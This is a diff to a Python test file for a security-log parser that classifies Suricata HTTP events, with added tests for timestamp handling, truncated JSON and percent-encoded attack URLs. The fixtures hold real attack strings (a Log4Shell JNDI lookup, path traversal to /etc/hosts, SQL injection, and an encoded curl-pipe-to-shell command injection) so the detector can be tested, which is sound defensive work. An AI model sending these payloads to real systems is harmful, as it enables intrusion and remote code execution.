@@ -111,6 +111,41 @@ def test_timestamp_without_offset_is_read_in_the_ingest_zone() -> None:
     assert _event(utc, 1)["protocol.transport"] == "udp"
 
 
+def _alert_at(timestamp: str) -> str:
+    line = EVE.read_text(encoding="utf-8").splitlines()[0]
+    return json.dumps({**json.loads(line), "timestamp": timestamp})
+
+
+# Tester's report (explore/sensors-a): a ``Z`` zone was rejected as unreadable.
+@pytest.mark.parametrize(
+    ("timestamp", "expected"),
+    [
+        ("2024-06-01T12:00:00.000Z", _utc(2024, 6, 1, 12, 0, 0, 0)),
+        ("2024-06-01T12:00:00.123456Z", _utc(2024, 6, 1, 12, 0, 0, 123456)),
+        ("2024-06-01T12:00:00Z", _utc(2024, 6, 1, 12, 0, 0, 0)),
+        ("2024-06-01T14:00:00.5+0200", _utc(2024, 6, 1, 12, 0, 0, 500000)),
+    ],
+)
+def test_timestamp_in_utc_with_z(timestamp: str, expected: datetime) -> None:
+    denver = ParseContext(now=CTX.now, timezone="America/Denver")  # a Z is not local time
+    result = LINES.parse(records_of([_alert_at(timestamp)]), None, denver)
+    assert _event(result, 1)["time.source"] == expected
+
+
+def test_time_in_a_daylight_saving_gap_is_rejected_with_its_reason() -> None:
+    # 02:30 on 10 March 2024 never happened in Denver (clocks went from 02:00 to 03:00).
+    lines = [_alert_at("2024-03-10T02:30:00.000000"), _alert_at("2024-03-10T99:00:00")]
+    denver = ParseContext(now=CTX.now, timezone="America/Denver")
+    result = LINES.parse(records_of(lines), None, denver)
+    assert result.events.height == 0
+    reason = "time does not exist in America/Denver (a daylight-saving gap)"
+    assert _reject_reason(result, 1) == reason
+    assert _reject_reason(result, 2) == "timestamp missing or unreadable"
+    assert _event(LINES.parse(records_of(lines[:1]), None, CTX), 1)["time.source"] == _utc(
+        2024, 3, 10, 2, 30, 0, 0
+    )
+
+
 def test_anomalies(sample: ParseResult) -> None:
     decode = _event(sample, 5)
     assert decode["classification.type"] == "undetermined"
@@ -216,6 +251,57 @@ def test_attack_request_fields(sample: ParseResult) -> None:
         "user_agent": "Mozilla/5.0",
     }
     assert _skip_reason(sample, 16) == "normal HTTP request"
+
+
+def _http_line(url: str, agent: str = "Mozilla/5.0") -> str:
+    return json.dumps(
+        {
+            "timestamp": "2024-06-01T12:00:00.000001+0000",
+            "event_type": "http",
+            "src_ip": "45.95.147.236",
+            "src_port": 40000,
+            "dest_ip": "10.0.0.1",
+            "dest_port": 80,
+            "proto": "TCP",
+            "http": {"hostname": "x", "url": url, "http_user_agent": agent, "status": 404},
+        }
+    )
+
+
+# Tester's report (explore/sensors-a, cmp/eve.json): percent-encoded attacks were skipped as
+# "normal HTTP request" though Zeek, decoding as weblog does, saw them. The URL is now
+# decoded the same way (double escapes, overlong UTF-8, ``+``) before matching.
+@pytest.mark.parametrize(
+    ("url", "identifier"),
+    [
+        ("/?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D", "http-log4shell"),
+        ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/hosts", "http-path-traversal"),  # CVE-2021-41773
+        ("/..%252f..%252f..%252fetc%252fhosts", "http-path-traversal"),
+        ("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts", "http-path-traversal"),
+        ("/?id=1+UNION+ALL+SELECT+1,2", "http-sql-injection"),
+        ("/?id=1%27%20OR%20%271%27%3D%271", "http-sql-injection"),
+        ("/cgi-bin/x?c=cd+/tmp;chmod+777+x", "http-exploit-attempt"),
+        ("/?cmd=%3Bcurl%20http%3A%2F%2F1.2.3.4%2Fx%7Csh", "http-exploit-attempt"),
+        ("/%2eenv", "http-secret-file-probe"),
+    ],
+)
+def test_percent_encoded_attack_requests(url: str, identifier: str) -> None:
+    result = LINES.parse(records_of([_http_line(url)]), None, CTX)
+    ev = _event(result, 1)
+    assert (ev["classification.identifier"], ev["classification.type"]) == (
+        identifier,
+        "exploit" if identifier != "http-secret-file-probe" else "scanner",
+    )
+    assert ev["destination.urlpath"] == url  # kept as logged, not decoded
+
+
+@pytest.mark.parametrize(
+    "url", ["/search?q=caf%C3%A9+au+lait", "/a%20b/c.html", "/file..txt", "/?q=50%25+off"]
+)
+def test_percent_encoded_normal_requests_stay_skipped(url: str) -> None:
+    result = LINES.parse(records_of([_http_line(url)]), None, CTX)
+    assert result.events.height == 0
+    assert _skip_reason(result, 1) == "normal HTTP request"
 
 
 def test_ssh(sample: ParseResult) -> None:
@@ -386,20 +472,33 @@ def test_split_document_reserializes_each_element_compactly() -> None:
     assert _reject_reason(result, 3) == "JSON value is not an object"
 
 
+CUT = "JSON array cut off before its end (not complete JSON)"
+
+
+# Tester's report (explore/sensors-a, suri/arr_trunc.json): an array cut off mid-document was
+# called "not a JSON array".
 @pytest.mark.parametrize(
-    "doc",
-    [b'{"event_type": "alert"}', b'[{"event_type": "alert"}', b"not json", b"\xff\xfe[1]"],
+    ("doc", "reason"),
+    [
+        (b'{"event_type": "alert"}', "document is not a JSON array"),
+        (b"not json", "document is not a JSON array"),
+        (b"\xff\xfe[1]", "document is not a JSON array"),
+        (b'[{"event_type": "alert"}', CUT),
+        (b'\xef\xbb\xbf\n [{"event_type": "alert"},\n{"event_ty', CUT),
+        (b'[{"event_type": "alert"}, {"a": 1}\n', CUT),
+        (b'[{"event_type": "alert"} {"a": 1}]\n', "JSON array that is not valid JSON"),
+    ],
 )
-def test_unreadable_document_is_one_bad_record(doc: bytes) -> None:
+def test_unreadable_document_is_one_bad_record(doc: bytes, reason: str) -> None:
     records = ARRAYS.split_document(doc)
     assert records.height == 1
-    assert records["__bad"].to_list() == ["document is not a JSON array"]
-    assert records[LINE][0] == doc.decode("utf-8", errors="replace")
+    assert records["__bad"].to_list() == [reason]
+    assert records[LINE][0] == doc.decode("utf-8", errors="replace").lstrip("\ufeff")
 
 
 def test_huge_bad_document_is_kept_cut() -> None:
     records = ARRAYS.split_document(b"[" + b"x" * (2 * 1024 * 1024))
-    assert records["__bad"].to_list() == ["document is not a JSON array (kept cut to 1 MiB)"]
+    assert records["__bad"].to_list() == [f"{CUT} (kept cut to 1 MiB)"]
     assert records[LINE].str.len_chars()[0] == 1024 * 1024
 
 
